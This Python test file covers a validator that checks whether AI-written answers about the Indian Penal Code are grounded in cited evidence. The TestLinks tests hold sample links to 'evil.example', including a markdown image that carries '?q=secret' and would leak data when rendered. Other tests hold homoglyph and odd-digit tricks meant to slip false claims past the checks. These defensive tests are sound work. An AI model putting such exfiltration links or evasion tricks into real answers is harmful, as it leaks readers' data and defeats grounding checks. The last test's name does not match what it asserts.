"""The validator's rules, one seed example of the issue per test, with exact verdicts and reasons."""

from __future__ import annotations

import time
from dataclasses import replace

import pytest

from services.common.errors import DeadlineExceededError
from services.common.evidence import Chunk
from services.common.language.citations import resolve_citations
from services.common.language.references import named_acts
from services.common.refusal import REFUSAL
from services.common.validation import (
    Reason,
    SentenceVerdict,
    ValidationOptions,
    ValidationReport,
    Verdict,
)
from services.validator import engine
from services.validator.convert import EvidenceItem
from services.validator.engine import validate
from tests.unit.validator.samples import chunk, ipc, ipc_evidence, ipc_text

CHEATING = (
    "Cheating and dishonestly inducing delivery of property is punishable with imprisonment "
    "of either description for a term which may extend to seven years and fine"
)
THEFT = "Whoever commits theft is punishable with imprisonment for up to three years, or fine"


def check(answer: str, evidence: list[Chunk] | None = None, **options: object) -> ValidationReport:
    chunks = ipc_evidence() if evidence is None else evidence
    return validate(answer, chunks, ValidationOptions(**options))  # type: ignore[arg-type]


class TestCitationContract:
    def test_validate_grounds_a_valid_citation_with_a_span_inside_the_chunk(self) -> None:
        report = check(f"{CHEATING} [IPC_420_0].")

        assert (report.verdict, report.reason) == (Verdict.GROUNDED, Reason.SUPPORTED)
        assert report.accepted
        assert report.cited_ids == ("IPC_420_0",)
        assert report.support_score == 1.0
        (sentence,) = report.sentences
        assert (sentence.verdict, sentence.reason) == (
            SentenceVerdict.SUPPORTED,
            Reason.SUPPORTED,
        )
        assert sentence.coverage >= 0.3
        text = ipc_text("420")
        spans = [s for s in sentence.spans if s.semantic_id == "IPC_420_0"]
        assert spans
        for span in spans:
            assert 0 <= span.char_start < span.char_end <= len(text)
        assert any("seven years" in text[s.char_start : s.char_end] for s in spans)

    def test_validate_accepts_the_exact_refusal(self) -> None:
        report = check(REFUSAL)

        assert (report.verdict, report.reason) == (Verdict.REFUSAL, Reason.REFUSAL)
        assert report.accepted
        assert report.cited_ids == ()

    @pytest.mark.parametrize(
        "answer", [f"{CHEATING} [IPC_420_0]. {REFUSAL}", f"{REFUSAL} {CHEATING} [IPC_420_0]."]
    )
    def test_validate_rejects_the_refusal_beside_claims(self, answer: str) -> None:
        report = check(answer)

        assert report.verdict is Verdict.NOT_GROUNDED and not report.accepted
        assert report.reason is Reason.REFUSAL_IN_ANSWER
        refusal = next(s for s in report.sentences if s.text.startswith("I cannot"))
        assert (refusal.verdict, refusal.reason) == (
            SentenceVerdict.UNSUPPORTED,
            Reason.REFUSAL_IN_ANSWER,
        )

    @pytest.mark.parametrize("answer", [REFUSAL.rstrip("."), REFUSAL.lower(), REFUSAL.upper()])
    def test_validate_rejects_the_refusal_without_its_final_period(self, answer: str) -> None:
        report = check(answer)

        assert report.verdict is Verdict.NOT_GROUNDED
        assert report.reason is Reason.NO_CITATION
        assert not report.accepted
        # The sentence says the same as the answer, and why (it used to say EXEMPT / REFUSAL).
        (sentence,) = report.sentences
        assert (sentence.verdict, sentence.reason) == (
            SentenceVerdict.UNSUPPORTED,
            Reason.NO_CITATION,
        )
        assert "not exactly the refusal" in sentence.detail

    def test_validate_grounds_multiple_valid_citations(self) -> None:
        report = check(f"{CHEATING} [IPC_420_0]. {THEFT} [IPC_379_0].")

        assert report.verdict is Verdict.GROUNDED
        assert report.cited_ids == ("IPC_420_0", "IPC_379_0")
        assert [s.cited_ids for s in report.sentences] == [("IPC_420_0",), ("IPC_379_0",)]
        assert report.support_score == 1.0

    def test_validate_rejects_a_factual_sentence_without_citation(self) -> None:
        report = check(f"{CHEATING}.")

        assert (report.verdict, report.reason) == (Verdict.NOT_GROUNDED, Reason.NO_CITATION)
        assert report.uncovered_sentences == (0,)
        assert report.sentences[0].reason is Reason.NO_CITATION
        # the chunk it should have cited is named
        assert report.missing_citations == ("IPC_420_0",)

    def test_validate_lists_an_invalid_citation(self) -> None:
        report = check(f"{CHEATING} [IPC_999_0].")

        assert (report.verdict, report.reason) == (
            Verdict.NOT_GROUNDED,
            Reason.INVALID_CITATION,
        )
        assert report.invalid_citations == ("IPC_999_0",)
        assert report.cited_ids == ()
        assert report.uncovered_sentences == (0,)

    def test_validate_lists_only_the_invalid_id_of_a_mixed_answer(self) -> None:
        report = check(f"{CHEATING} [IPC_420_0]. {THEFT} [IPC_999_0].")

        assert report.reason is Reason.INVALID_CITATION
        assert report.invalid_citations == ("IPC_999_0",)
        assert report.cited_ids == ("IPC_420_0",)
        assert [s.reason for s in report.sentences] == [
            Reason.SUPPORTED,
            Reason.INVALID_CITATION,
        ]
        assert report.uncovered_sentences == (1,)
        assert report.support_score == 0.5

    def test_validate_rejects_a_hallucinated_id_that_resembles_real_ones(self) -> None:
        report = check(f"{CHEATING} [IPC_420_7].")

        assert report.reason is Reason.INVALID_CITATION
        assert report.invalid_citations == ("IPC_420_7",)

    @pytest.mark.parametrize("variant", ["ipc_420_0", "Ipc_420_0", "IPC-420-0", "IPC_420_00"])
    def test_validate_rejects_a_near_miss_id_without_fuzzy_matching(self, variant: str) -> None:
        report = check(f"{CHEATING} [{variant}].")

        assert (report.verdict, report.reason) == (
            Verdict.NOT_GROUNDED,
            Reason.INVALID_CITATION,
        )
        assert report.cited_ids == ()
        assert report.invalid_citations == (variant,)

    def test_validate_rejects_any_citation_when_evidence_is_empty(self) -> None:
        report = check(f"{CHEATING} [IPC_420_0].", evidence=[])

        assert (report.verdict, report.reason) == (
            Verdict.NOT_GROUNDED,
            Reason.INVALID_CITATION,
        )
        assert report.invalid_citations == ("IPC_420_0",)

    def test_validate_counts_duplicate_citations_once(self) -> None:
        report = check(
            f"{CHEATING} [IPC_420_0][IPC_420_0]. Cheating attracts a fine [IPC_420_0, IPC_420_0]."
        )

        assert report.verdict is Verdict.GROUNDED
        assert report.cited_ids == ("IPC_420_0",)
        assert report.sentences[0].cited_ids == ("IPC_420_0",)
        assert report.sentences[1].cited_ids == ("IPC_420_0",)

    @pytest.mark.parametrize(
        ("token", "problem"),
        [
            ("[IPC_420_", "unclosed '['"),
            ("[IPC 420]", "not an evidence id"),
            ("[]", "empty citation"),
        ],
    )
    def test_validate_reports_a_malformed_citation_with_its_token(
        self, token: str, problem: str
    ) -> None:
        answer = f"{CHEATING} {token}."
        report = check(answer)

        assert (report.verdict, report.reason) == (
            Verdict.NOT_GROUNDED,
            Reason.MALFORMED_CITATION,
        )
        (malformed,) = report.malformed_citations
        assert malformed.token == token
        assert problem in malformed.problem
        assert answer[malformed.char_start : malformed.char_end] == token

    def test_many_malformed_tokens_are_each_reported_but_summed_up_in_the_detail(self) -> None:
        """Found by a new user: 64 KiB of ']' listed 65,000 tokens twice (the report and the
        sentence's detail), a 3.5 MB response near the 4 MiB message limit."""
        report = check("]" * 65_000)

        assert len(report.malformed_citations) == 65_000  # every one, with its offsets
        (sentence,) = report.sentences
        assert sentence.detail.endswith(
            ", and 64,990 more (the report's malformed_citations lists each)"
        )
        assert sentence.detail.count("(']' without '[')") == 10

    def test_validate_reports_malformed_token_even_next_to_a_valid_citation(self) -> None:
        report = check(f"{CHEATING} [IPC_420_0] []. {THEFT} [IPC_379_0].")

        assert report.reason is Reason.MALFORMED_CITATION
        assert [m.token for m in report.malformed_citations] == ["[]"]

    @pytest.mark.parametrize(
        "answer", [f"{REFUSAL} [IPC_420_0]", f"{REFUSAL.rstrip('.')} [IPC_420_0]."]
    )
    def test_validate_rejects_a_citation_inside_a_refusal(self, answer: str) -> None:
        report = check(answer)

        assert (report.verdict, report.reason) == (
            Verdict.NOT_GROUNDED,
            Reason.CITATION_IN_REFUSAL,
        )
        assert not report.accepted

    def test_validate_rejects_an_empty_answer(self) -> None:
        report = check("   ")

        assert (report.verdict, report.reason) == (Verdict.NOT_GROUNDED, Reason.EMPTY_ANSWER)


class TestNumberedCitations:
    def test_validate_resolves_single_numbers_by_evidence_order(self) -> None:
        report = check(f"{CHEATING} [1]. {THEFT} [3].")

        assert report.verdict is Verdict.GROUNDED
        assert report.cited_ids == ("IPC_420_0", "IPC_379_0")

    @pytest.mark.parametrize(
        ("token", "ids"),
        [
            ("[1-3]", ["IPC_420_0", "IPC_378_0", "IPC_379_0"]),
            ("[1–2]", ["IPC_420_0", "IPC_378_0"]),
            ("[2,3]", ["IPC_378_0", "IPC_379_0"]),
            ("[IPC_378_0, IPC_379_0]", ["IPC_378_0", "IPC_379_0"]),
            ("[IPC_378_0][IPC_379_0]", ["IPC_378_0", "IPC_379_0"]),
            ("[IPC_420_0, 3]", ["IPC_420_0", "IPC_379_0"]),
        ],
    )
    def test_resolve_citations_expands_compact_forms(self, token: str, ids: list[str]) -> None:
        assert resolve_citations(f"Theft is punishable {token}.", ipc_evidence()) == ids

    def test_validate_grounds_a_range_citing_two_chunks(self) -> None:
        report = check(
            "Theft means dishonestly moving movable property and is punishable with "
            "imprisonment for up to three years [2-3]."
        )

        assert report.verdict is Verdict.GROUNDED
        assert report.sentences[0].cited_ids == ("IPC_378_0", "IPC_379_0")

    @pytest.mark.parametrize("token", ["4", "0", "2-5", "0-1"])
    def test_validate_rejects_a_number_outside_the_evidence(self, token: str) -> None:
        report = check(f"{THEFT} [{token}].")

        assert report.reason is Reason.INVALID_CITATION
        assert report.invalid_citations == (token,)

    def test_validate_reports_a_descending_range_as_malformed(self) -> None:
        report = check(f"{THEFT} [3-1].")

        assert report.reason is Reason.MALFORMED_CITATION
        (malformed,) = report.malformed_citations
        assert malformed.token == "[3-1]"
        assert "descending range" in malformed.problem

    def test_validate_prefers_an_all_digit_id_over_a_position(self) -> None:
        evidence = [chunk("7", "The sky is blue on clear days."), chunk("D_1", "Grass is green.")]

        report = validate("The sky is blue on clear days [7].", evidence)

        assert report.cited_ids == ("7",)
        assert report.verdict is Verdict.GROUNDED


class TestCoverage:
    # Ten content words; the evidence items hold five each.
    ALPHA = chunk("D_1_0", "alpha bravo charlie delta echo")
    FOX = chunk("D_2_0", "foxtrot golf hotel india juliet")

    def test_validate_passes_a_single_citation_at_exactly_thirty_percent(self) -> None:
        report = check(
            "Alpha bravo charlie kilo lima mike november oscar papa quebec [D_1_0].",
            [self.ALPHA, self.FOX],
        )

        assert report.sentences[0].coverage == pytest.approx(0.3)
        assert report.verdict is Verdict.GROUNDED

    def test_validate_fails_a_single_citation_below_thirty_percent(self) -> None:
        report = check(
            "Alpha bravo kilo lima mike november oscar papa quebec romeo [D_1_0].",
            [self.ALPHA, self.FOX],
        )

        assert report.sentences[0].coverage == pytest.approx(0.2)
        assert report.reason is Reason.LOW_COVERAGE
        assert report.uncovered_sentences == (0,)

    def test_validate_passes_several_citations_at_the_lower_multi_threshold(self) -> None:
        # 5 of 23 terms = 21.7 %: under the single threshold, over the multi one.
        answer = (
            "Alpha bravo charlie foxtrot golf kilo lima mike november oscar papa quebec romeo "
            "sierra tango uniform victor whiskey xray yankee zulu amber blue [D_1_0][D_2_0]."
        )
        report = check(answer, [self.ALPHA, self.FOX])

        assert report.sentences[0].coverage == pytest.approx(5 / 23)
        assert report.verdict is Verdict.GROUNDED

    def test_validate_fails_several_citations_below_the_multi_threshold(self) -> None:
        # 4 of 20 terms = 20 %.
        answer = (
            "Alpha bravo foxtrot golf kilo lima mike november oscar papa quebec romeo sierra "
            "tango uniform victor whiskey xray yankee zulu [D_1_0][D_2_0]."
        )
        report = check(answer, [self.ALPHA, self.FOX])

        assert report.sentences[0].coverage == pytest.approx(0.2)
        assert report.reason is Reason.LOW_COVERAGE
        assert "needs 21%" in report.sentences[0].detail

    def test_validate_applies_threshold_overrides_from_options(self) -> None:
        answer = "Alpha bravo kilo lima mike november oscar papa quebec romeo [D_1_0]."
        evidence = [self.ALPHA, self.FOX]

        assert check(answer, evidence, single_citation_threshold=0.2).verdict is Verdict.GROUNDED
        strict = check(answer, evidence, single_citation_threshold=0.9)
        assert strict.reason is Reason.LOW_COVERAGE
        assert "needs 90%" in strict.sentences[0].detail

    def test_validate_rejects_a_citation_to_an_unrelated_section(self) -> None:
        report = check(
            "Theft means dishonestly moving movable property out of another person's "
            "possession [IPC_302_0].",
            [ipc("302")],
        )

        assert report.reason is Reason.LOW_COVERAGE
        assert report.sentences[0].coverage < 0.3


class TestSentencesAsWritten:
    def test_a_numbered_list_is_one_sentence_per_item(self) -> None:
        """Found by a new user: '1.' was split off as an uncited sentence of its own."""
        report = check(
            f"1. {THEFT} [IPC_379_0].\n2. {CHEATING} [IPC_420_0].\n10. {THEFT} [IPC_379_0]."
        )

        assert report.verdict is Verdict.GROUNDED
        assert len(report.sentences) == 3

    @pytest.mark.parametrize(
        ("answer", "evidence_text"),
        [
            (
                "凡犯盗窃罪者，处3年以下有期徒刑[A]。杀人者处死刑。",
                "凡犯盗窃罪者，处3年以下有期徒刑。",
            ),
            (
                "चोरी के लिए तीन वर्ष का कारावास है [A]। हत्या के लिए मृत्युदंड है।",
                "चोरी के लिए तीन वर्ष का कारावास है।",
            ),
            (f"{THEFT} [A].Murder is punishable with death.", THEFT),
        ],
        ids=["chinese", "hindi", "no-space-after-a-citation"],
    )
    def test_an_uncited_sentence_does_not_ride_along_with_a_cited_one(
        self, answer: str, evidence_text: str
    ) -> None:
        report = check(answer, [Chunk("A", "a", evidence_text)])

        assert len(report.sentences) == 2
        assert report.sentences[1].reason is Reason.NO_CITATION
        assert report.verdict is Verdict.NOT_GROUNDED

    @pytest.mark.parametrize(
        ("claim", "reason"),
        [
            ("Cheating is punishable with imprisonment up to tеn years", Reason.NUMBER_MISMATCH),
            ("Cheating is punishable with imprisonment up to １０ years", Reason.NUMBER_MISMATCH),
            ("Cheating is punishable with imprisonment up to १० years", Reason.NUMBER_MISMATCH),
            ("The cheater shall nоt be liable to fine", Reason.NEGATION_MISMATCH),
        ],
        ids=["cyrillic-e", "full-width-digits", "devanagari-digits", "cyrillic-o"],
    )
    def test_look_alike_characters_do_not_hide_a_number_or_a_negation(
        self, claim: str, reason: Reason
    ) -> None:
        """Found by a new user: these were GROUNDED while their ASCII forms were refused."""
        report = check(f"{claim} [IPC_420_0].")

        assert report.verdict is Verdict.NOT_GROUNDED
        assert reason in report.sentences[0].failed


class TestLinks:
    @pytest.mark.parametrize(
        "link",
        [
            "see [the text](https://evil.example/x)",
            "![x](https://evil.example/p.png?q=secret)",
            "(full text at www.evil.example)",
        ],
    )
    def test_a_link_the_cited_evidence_lacks_fails(self, link: str) -> None:
        """Found by a new user: these were delivered as GROUNDED (an image in a rendered answer
        is fetched by the reader's client, query and all)."""
        report = check(f"{CHEATING} {link} [IPC_420_0].")

        assert report.verdict is Verdict.NOT_GROUNDED
        assert report.sentences[0].reason is Reason.LINK_MISMATCH
        assert "which the cited evidence does not hold" in report.sentences[0].detail

    def test_an_html_tag_is_refused_before_its_link_is_read(self) -> None:
        """A tag is markup a client renders (UNSAFE_TEXT, first of all reasons), whatever its
        address; the sentence was LINK_MISMATCH before that rule."""
        report = check(f'{CHEATING} <img src="https://evil.example/a.png"> [IPC_420_0].')

        assert report.sentences[0].reason is Reason.UNSAFE_TEXT

    def test_a_link_as_a_lead_in_is_not_exempt(self) -> None:
        report = check(f"![x](https://evil.example/p.png?q=secret):\n{CHEATING} [IPC_420_0].")

        assert report.sentences[0].reason is Reason.NO_CITATION

    def test_a_link_the_cited_evidence_holds_passes_and_the_switch_turns_it_off(self) -> None:
        evidence = [Chunk("X_0", "X", "The Code is published at https://indiacode.nic.in/ipc.")]
        held = check("The Code is published at https://indiacode.nic.in/ipc [X_0].", evidence)
        foreign = check(
            "The Code is published at https://evil.example/ipc [X_0].",
            evidence,
            check_numbers=False,
        )

        assert held.verdict is Verdict.GROUNDED
        assert Reason.LINK_MISMATCH not in foreign.sentences[0].failed


class TestActs:
    """Rule 5b (L): a sentence names the act its citations belong to. Found by a data engineer
    adding a second act: a sentence naming another act was GROUNDED on an IPC citation."""

    @pytest.mark.parametrize("act", ["the Motor Vehicles Act", "the CrPC", "the Evidence Act"])
    def test_another_act_named_fails(self, act: str) -> None:
        report = check(f"Under {act}, {CHEATING.lower()} [IPC_420_0].", check_entailment=False)

        assert report.verdict is Verdict.NOT_GROUNDED
        assert report.sentences[0].reason is Reason.ACT_MISMATCH
        assert "which no cited passage belongs to or names" in report.sentences[0].detail

    @pytest.mark.parametrize(
        "act", ["the motor vehicles act", "the crpc", "the cr. p. c.", "the hindu marriage act"]
    )
    def test_another_act_named_in_lower_case_fails(self, act: str) -> None:
        # Rule L3 (security review): an LLM told to write "under the motor vehicles act," named
        # the wrong statute and passed; the front door reads a question so already.
        report = check(f"Under {act}, {CHEATING.lower()} [IPC_420_0].", check_entailment=False)

        assert report.sentences[0].reason is Reason.ACT_MISMATCH

    @pytest.mark.parametrize("act", ["the IPC", "the Indian Penal Code", "section 420 IPC"])
    def test_the_cited_act_named_passes(self, act: str) -> None:
        report = check(f"Under {act}, {CHEATING.lower()} [IPC_420_0].")

        assert Reason.ACT_MISMATCH not in report.sentences[0].failed

    def test_an_act_the_cited_text_names_passes(self) -> None:
        # The IPC itself names other acts ("... under the Code of Criminal Procedure"): a
        # sentence quoting it names them too.
        evidence = [chunk("IPC_1_0", "An offence as defined in the Code of Criminal Procedure.")]
        report = check(
            "An offence is as defined in the Code of Criminal Procedure [IPC_1_0].", evidence
        )

        assert Reason.ACT_MISMATCH not in report.sentences[0].failed

    @pytest.mark.parametrize(
        "sentence",
        [
            "The constitution of an assembly of five or more persons is unlawful",
            # The review of rule L: a capital where a sentence starts, an agency, two names.
            "Constitution of an assembly of five or more persons is unlawful",
            "The NIA treats an assembly of five or more persons as unlawful",
            "Nia and Ida agree an assembly of five or more persons is unlawful",
        ],
    )
    def test_a_word_that_is_no_act_name_names_no_act(self, sentence: str) -> None:
        evidence = [chunk("IPC_141_0", "An assembly of five or more persons is unlawful.")]
        report = check(f"{sentence} [IPC_141_0].", evidence, check_entailment=False)

        assert Reason.ACT_MISMATCH not in report.sentences[0].failed

    def test_an_act_named_with_a_section_number_fails(self) -> None:
        # "NIA" alone is also an agency, but beside a section number it is the act.
        report = check(f"Under section 138 NIA, {CHEATING.lower()} [IPC_420_0].")

        assert report.sentences[0].reason is Reason.NUMBER_MISMATCH  # and 138 is not cited
        assert Reason.ACT_MISMATCH in report.sentences[0].failed

    def test_passages_of_no_registered_act_are_not_judged_and_the_switch_turns_it_off(
        self,
    ) -> None:
        evidence = [chunk("Apollo 11_0", "Apollo 11 landed on the Moon in 1969.")]
        squad = check(
            "Under the Evidence Act, Apollo 11 landed on the Moon [Apollo 11_0].", evidence
        )
        off = check(f"Under the CrPC, {CHEATING.lower()} [IPC_420_0].", check_numbers=False)

        assert Reason.ACT_MISMATCH not in squad.sentences[0].failed
        assert Reason.ACT_MISMATCH not in off.sentences[0].failed

    def test_a_cited_passage_is_read_for_acts_once_per_request(
        self, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        # A security review: every sentence naming an act parsed every passage it cites again,
        # about a second per sentence for a 20,000-character passage of references.
        read: list[str] = []

        def counting(text: str, *, any_case: bool = False, typed: bool = False) -> tuple[str, ...]:
            if any_case:
                read.append(text)
            return named_acts(text, any_case=any_case, typed=typed)

        monkeypatch.setattr(engine, "named_acts", counting)
        evidence = [chunk("IPC_1_0", "An offence as defined in the Code of Criminal Procedure.")]
        sentence = "An offence is as defined in the Code of Criminal Procedure [IPC_1_0]."
        report = check(" ".join([sentence] * 5), evidence)

        assert [s.reason for s in report.sentences] == [Reason.SUPPORTED] * 5
        assert len(read) == 1
        # A sentence naming only the act its citation belongs to needs no passage read.
        read.clear()
        check(f"Under the IPC, {CHEATING.lower()} [IPC_420_0].")
        assert read == []


class TestDeadline:
    """The rules stop between sentences, and before each passage they read, once the caller's
    deadline has passed, as the model does between rounds (a security review: a 2 s caller
    left a validator core busy for 28 s)."""

    def test_no_sentence_is_checked_once_the_deadline_has_passed(self) -> None:
        with pytest.raises(DeadlineExceededError, match="2 of 2 sentence"):
            validate(f"{THEFT} [IPC_379_0]. {THEFT} [IPC_379_0].", ipc_evidence(), deadline=0.0)

    def test_the_rules_stop_between_sentences(self, monkeypatch: pytest.MonkeyPatch) -> None:
        # A clock that ticks at each look: the first sentence (0), the passage it reads (1),
        # then the second sentence (2) is past the deadline.
        clock = iter(range(100))
        monkeypatch.setattr(engine.time, "monotonic", lambda: next(clock))

        with pytest.raises(DeadlineExceededError, match="2 of 3 sentence"):
            validate(" ".join([f"{THEFT} [IPC_379_0]."] * 3), [ipc("379")], deadline=1.5)

    def test_the_rules_stop_between_the_passages_a_sentence_cites(
        self, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        # One sentence may cite 200 passages of 20,000 characters: seconds of reading.
        clock = iter(range(100))
        monkeypatch.setattr(engine.time, "monotonic", lambda: next(clock))

        with pytest.raises(DeadlineExceededError, match="while the cited passages were read"):
            validate(f"{THEFT} [IPC_420_0, IPC_378_0, IPC_379_0].", ipc_evidence(), deadline=1.5)

    def test_a_deadline_still_ahead_changes_nothing(self) -> None:
        answer = f"{THEFT} [IPC_379_0]. Under the CrPC, {CHEATING.lower()} [IPC_420_0]."
        timed = validate(answer, ipc_evidence(), deadline=time.monotonic() + 60)

        assert replace(timed, stage_seconds=()) == replace(check(answer), stage_seconds=())


class TestReviewedEdges:
    """Found by a review of the rules above, each fixed."""

    @pytest.mark.parametrize(
        "answer",
        [
            f"{THEFT} [IPC_379_0]. # Murder is legal in India.",  # not at a line's start
            f"{THEFT} [IPC_379_0].\n## Murder is legal in India",  # words the evidence lacks
            f"## Theft is not an offence\n{THEFT} [IPC_379_0].",  # a negation
        ],
    )
    def test_a_claim_dressed_as_a_heading_is_checked(self, answer: str) -> None:
        assert check(answer).verdict is Verdict.NOT_GROUNDED

    def test_a_bare_number_inside_a_line_is_an_answer_not_an_item_number(self) -> None:
        report = check(f"How long is the term? 500. {THEFT} [IPC_379_0].")

        assert report.verdict is Verdict.NOT_GROUNDED
        assert Reason.NUMBER_MISMATCH in report.sentences[1].failed

    def test_a_question_about_a_penalty_asks_it_does_not_state_it(self) -> None:
        report = check(f"Is theft punishable with imprisonment? {THEFT} [IPC_379_0].")

        assert report.verdict is Verdict.GROUNDED

    def test_a_citation_after_a_chinese_full_stop_stays_with_its_sentence(self) -> None:
        evidence = [
            Chunk("A", "a", "故意杀人的，处有期徒刑。"),
            Chunk("B", "b", "情节较轻的，处有期徒刑。"),
        ]
        report = check("故意杀人的，处有期徒刑。[A]情节较轻的，处有期徒刑。[B]", evidence)

        assert [s.cited_ids for s in report.sentences] == [("A",), ("B",)]

    @pytest.mark.parametrize(
        "text",
        ["वह मृत्यु और १० वर्ष का दंड पाएगा।", "imprisonment of １０ years and a fine of Ｒｓ．５００."],
    )
    def test_a_quote_of_evidence_in_other_digits_is_a_quote(self, text: str) -> None:
        """The evidence is read with its look-alikes folded too, as the answer is."""
        report = check(f"{text.rstrip('.।')} [A].", [Chunk("A", "a", text)])

        assert report.verdict is Verdict.GROUNDED


class TestAttributionAndRefusalWording:
    @pytest.mark.parametrize("lead", ["According to section 379", "As per section 379"])
    def test_a_named_section_is_an_attribution_not_a_number_to_find(self, lead: str) -> None:
        """Found by a new user: "According to section 302, ..." failed the number check while
        "Under section 302, ..." passed (the meta phrasing took "according to section" as
        "according to the sections" and left "302" a bare number)."""
        report = check(f"{lead}, {THEFT[0].lower()}{THEFT[1:]} [IPC_379_0].")

        assert report.verdict is Verdict.GROUNDED, report.sentences[0].detail

    def test_a_refusal_beside_other_text_says_so(self) -> None:
        report = check(f"{REFUSAL} {REFUSAL}")

        assert report.verdict is Verdict.NOT_GROUNDED
        assert all(
            s.detail.endswith("must be the whole answer; here other text stands beside it")
            for s in report.sentences
        )


class TestMetaStatements:
    @pytest.mark.parametrize(
        "meta",
        [
            "Based on the provided documents, the answer is as follows.",
            "Here is a summary of the relevant provisions.",
            "Here are the key points.",
            "What does the law say about theft?",
        ],
    )
    def test_validate_exempts_a_meta_statement_from_citation(self, meta: str) -> None:
        report = check(f"{meta} {THEFT} [IPC_379_0].")

        assert report.verdict is Verdict.GROUNDED
        assert report.sentences[0].verdict is SentenceVerdict.EXEMPT
        assert report.sentences[0].reason is Reason.META_STATEMENT
        assert report.support_score == 1.0

    @pytest.mark.parametrize(
        "framing",
        [
            "Murder carries only a fine of Rs. 500:\n",  # a lead-in with an amount
            "Isn't murder punishable with a fine only?\n",  # a question with a negation
            "## Murder is punishable with fine only\n\n",  # a heading stating a penalty
        ],
    )
    def test_a_question_lead_in_or_heading_that_states_something_is_checked(
        self, framing: str
    ) -> None:
        """Found by a new user: a false claim ending in ':' or '?' was exempt, unchecked."""
        report = check(f"{framing}{THEFT} [IPC_379_0].")

        assert report.verdict is Verdict.NOT_GROUNDED
        assert (report.sentences[0].verdict, report.sentences[0].reason) == (
            SentenceVerdict.UNSUPPORTED,
            Reason.NO_CITATION,
        )

    def test_a_lead_in_naming_a_document_by_numbers_or_words_it_holds_is_exempt(self) -> None:
        """The extractive generator heads each document's sentences with its title: an ordinal
        the evidence holds, or a title's own "not", states nothing of its own."""
        evidence = [
            Chunk("A_0", "A", "The 22nd AVN Awards ceremony took place on January 8, 2005."),
            Chunk(
                "B_0",
                "B",
                "Survivin is not required for the endomitotic cell cycle.",
                title="Survivin is not required for the endomitotic cell cycle",
            ),
            # The source the note names is among the evidence, as synthesis sends it (rule K).
            Chunk("2007 Calder Cup playoffs_0", "2007 Calder Cup playoffs", "The 2007 final."),
        ]
        answer = (
            "22nd AVN Awards (differs from 2007 Calder Cup playoffs on a number):\n"
            "The 22nd AVN Awards ceremony took place on January 8, 2005 [A_0]."
            "\nSurvivin is not required for the endomitotic cell cycle:\n"
            "Survivin is not required for the endomitotic cell cycle [B_0]."
        )
        report = check(answer, evidence)

        assert report.verdict is Verdict.GROUNDED
        assert [s.reason for s in report.sentences][::2] == [Reason.META_STATEMENT] * 2

    @pytest.mark.parametrize(
        "framing",
        [
            "## Punishment\n\n",
            "# Theft\n",
            "The punishments are as follows:\n",
            "IPC section 379:\n",  # the extractive generator's heading
            "IPC section 379, Punishment for theft:\n",
        ],
    )
    def test_a_heading_or_lead_in_that_states_nothing_is_exempt(self, framing: str) -> None:
        report = check(f"{framing}{THEFT} [IPC_379_0].")

        assert report.verdict is Verdict.GROUNDED
        assert report.sentences[0].reason is Reason.META_STATEMENT

    def test_validate_blanks_a_meta_prefix_but_checks_the_claim(self) -> None:
        grounded = check(f"Based on the provided documents, {THEFT.lower()} [IPC_379_0].")
        ungrounded = check("Based on the provided documents, theft is punishable with death.")

        assert grounded.verdict is Verdict.GROUNDED
        assert ungrounded.reason is Reason.NO_CITATION


class TestMissingCitation:
    def test_validate_reports_the_uncited_chunk_a_sentence_uses(self) -> None:
        answer = (
            "Whoever intending to take dishonestly any movable property out of the possession "
            "of any person moves it commits theft and is punishable with imprisonment of either "
            "description for up to three years or fine [IPC_379_0]."
        )
        report = check(answer)

        assert (report.verdict, report.reason) == (
            Verdict.NOT_GROUNDED,
            Reason.MISSING_CITATION,
        )
        assert report.missing_citations == ("IPC_378_0",)
        assert report.sentences[0].missing_ids == ("IPC_378_0",)

    def test_validate_grounds_the_same_sentence_citing_both_chunks(self) -> None:
        answer = (
            "Whoever intending to take dishonestly any movable property out of the possession "
            "of any person moves it commits theft and is punishable with imprisonment of either "
            "description for up to three years or fine [IPC_378_0][IPC_379_0]."
        )

        assert check(answer).verdict is Verdict.GROUNDED

    def test_validate_skips_the_check_when_options_disable_it(self) -> None:
        answer = (
            "Whoever intending to take dishonestly any movable property out of the possession "
            "of any person moves it commits theft and is punishable with imprisonment of either "
            "description for up to three years or fine [IPC_379_0]."
        )

        report = check(answer, require_complete_citation=False)

        assert report.verdict is Verdict.GROUNDED
        assert report.missing_citations == ()


class TestNumbers:
    def test_validate_rejects_a_duration_the_evidence_does_not_state(self) -> None:
        report = check(f"{CHEATING.replace('seven years', '10 years')} [IPC_420_0].")

        assert report.reason is Reason.NUMBER_MISMATCH
        assert "'10'" in report.sentences[0].detail

    def test_validate_accepts_digits_for_a_spelled_out_number(self) -> None:
        report = check(f"{CHEATING.replace('seven years', '7 years')} [IPC_420_0].")

        assert report.verdict is Verdict.GROUNDED

    def test_validate_rejects_a_different_spelled_out_number(self) -> None:
        report = check(f"{THEFT.replace('three years', 'seven years')} [IPC_379_0].")

        assert report.reason is Reason.NUMBER_MISMATCH

    FINE = chunk("X_1_0", "The offender shall be liable to a fine of Rs. 10,000 and two years.")

    @pytest.mark.parametrize(
        "amount", ["Rs. 10,000", "Rs 10000", "10000 rupees", "₹10,000", "ten thousand rupees"]
    )
    def test_validate_normalises_amounts(self, amount: str) -> None:
        report = check(f"The offender is liable to a fine of {amount} [X_1_0].", [self.FINE])

        assert report.verdict is Verdict.GROUNDED

    @pytest.mark.parametrize("amount", ["Rs. 20,000", "Rs. 1,000", "100000 rupees"])
    def test_validate_rejects_a_changed_amount(self, amount: str) -> None:
        report = check(f"The offender is liable to a fine of {amount} [X_1_0].", [self.FINE])

        assert report.reason is Reason.NUMBER_MISMATCH

    DATES = chunk(
        "A_1_0", "The Act came into force on 1 January 1860 and was amended in March 1983."
    )

    @pytest.mark.parametrize(
        ("claim", "grounded"),
        [
            ("The Act came into force on 1 January 1860", True),
            ("The Act came into force on January 1, 1860", True),
            ("The Act came into force on 1 January 1862", False),
            ("The Act was amended in March 1983", True),
            ("The Act was amended in April 1983", False),
        ],
    )
    def test_validate_checks_dates(self, claim: str, grounded: bool) -> None:
        report = check(f"{claim} [A_1_0].", [self.DATES])

        assert report.verdict is (Verdict.GROUNDED if grounded else Verdict.NOT_GROUNDED)
        if not grounded:
            assert report.reason is Reason.NUMBER_MISMATCH

    def test_validate_rejects_a_range_written_the_other_way_round(self) -> None:
        evidence = [chunk("H_1_0", "From 1937 to 1945 he was imprisoned in Dachau.")]

        assert check("From 1937 to 1945 he was imprisoned in Dachau [H_1_0].", evidence).accepted
